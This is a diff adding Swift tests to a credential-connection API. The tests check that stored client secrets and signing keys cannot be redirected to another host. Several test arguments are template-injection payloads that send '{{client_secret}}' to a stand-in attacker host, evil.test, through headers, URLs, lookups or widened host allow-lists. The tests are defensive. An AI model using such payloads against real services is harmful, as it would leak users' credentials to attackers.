@@ -13,9 +13,13 @@ import Tokens
     private let desk = Desk()
     private let path = "/api/v1/connections/bill"
 
-    private func make(_ more: String = "", grant: String = "client_credentials") async throws {
+    private func make(
+        _ more: String = "",
+        grant: String = "client_credentials",
+        tokenURI: String = "https://idp.test/token"
+    ) async throws {
         let body = """
-            {"name":"bill","grant":"\(grant)","token_uri":"https://idp.test/token",\
+            {"name":"bill","grant":"\(grant)","token_uri":"\(tokenURI)",\
             "client_id":"billing","client_secret":"canary-client-secret",\
             "base_uri":"https://api.test/v2"\(more)}
             """
@@ -73,6 +77,52 @@ import Tokens
         #expect(desk.log.dropFirst().prefix(2) == ["disown bill", "replace bill"])
     }
 
+    @Test(arguments: [
+        "\"headers\":{\"X-Key\":\"{{client_secret}}\"},\"base_uri\":\"https://evil.test\"",
+        "\"query\":{\"k\":\"{{basic client_id client_secret}}\"}",
+        "\"base_uri\":\"https://api.test/{{client_secret}}\"",
+        "\"lookup\":\"GET https://evil.test/{{client_secret}} a=b\"",
+        "\"authorize_uri\":\"https://idp.test/?k={{client_secret}}\"",
+    ])
+    func `no template takes the secret elsewhere`(member: String) async throws {
+        try await make()
+        let response = await patch("{\(member)}")
+        #expect(response.outcome == "422 bad_request")
+        #expect(response.text.contains("'client_secret' was entered for another host"))
+        #expect(desk.log.isEmpty && desk.registry.log.isEmpty)
+    }
+
+    @Test(arguments: [
+        "\"allow_hosts\":[\"*.idp.test\",\"evil.test\"]",
+        "\"token_uri\":\"https://{{host | default \\\"evil.test\\\"}}/token\"",
+    ])
+    func `the secret does not go to a host that fields decide`(member: String) async throws {
+        try await make(
+            ",\"parameters\":{\"host\":\"a.idp.test\"},\"allow_hosts\":[\"*.idp.test\"]",
+            tokenURI: "https://{{host}}/token"
+        )
+        let response = await patch("{\(member)}")
+        #expect(response.outcome == "422 bad_request")
+        #expect(response.text.contains("'client_secret' was entered for another host"))
+        #expect(await patch("{\"allow_hosts\":[\"*.idp.test\"]}").status == 200)
+    }
+
+    @Test func `a key signs nothing for another host`() async throws {
+        let key = "\"key\":\"-----BEGIN PRIVATE KEY-----\\nAA==\\n-----END PRIVATE KEY-----\""
+        let method = "\"method\":\"private_key_jwt\",\"alg\":\"RS256\",\"aud\":\"https://idp.test\""
+        try await make(",\"client_auth\":{\(method),\(key)}")
+        let place = "\"token_uri\":\"https://evil.test/token\""
+        for more in ["", ",\"client_auth\":{\"aud\":\"https://idp.test/\"}"] {
+            let response = await patch("{\(place)\(more)}")
+            #expect(response.text.contains("'client_auth' was entered for another host"))
+        }
+        let again = await patch("{\(place),\"client_secret\":null,\"client_auth\":{\(key)}}")
+        #expect(again.status == 200, "\(again.text)")
+        let other =
+            "{\"token_uri\":\"https://c.test/\",\"client_auth\":\"body\",\"client_secret\":\"s\"}"
+        #expect(await patch(other).status == 200)
+    }
+
     @Test func `another path of the same host keeps the secret`() async throws {
         try await make()
         #expect(await patch("{\"token_uri\":\"https://IDP.test/v2/token\"}").status == 200)
@@ -123,6 +173,17 @@ import Tokens
         #expect(await desk.call("GET", path).outcome == "404 not_found")
         #expect(await desk.call("DELETE", path).outcome == "404 not_found")
         #expect(desk.logged.contains("action=delete connection=bill tenant=- status=204"))
+    }
+
+    @Test func `what could not be deleted can be deleted again`() async throws {
+        try await make()
+        let refusal = CredentialRefusal.unavailable(code: "vault", message: "the disk is full")
+        desk.state.withLock { $0.refusal = refusal }
+        #expect(await desk.call("DELETE", path).outcome == "503 vault")
+        desk.state.withLock { $0.refusal = nil }
+        #expect(await desk.call("DELETE", path).status == 204)
+        #expect(desk.log.last == "forget and tell bill")
+        #expect(desk.registry.log.last == "remove bill")
     }
 
     @Test func `of the file's, and of one tenant, only the tokens are`() async throws {
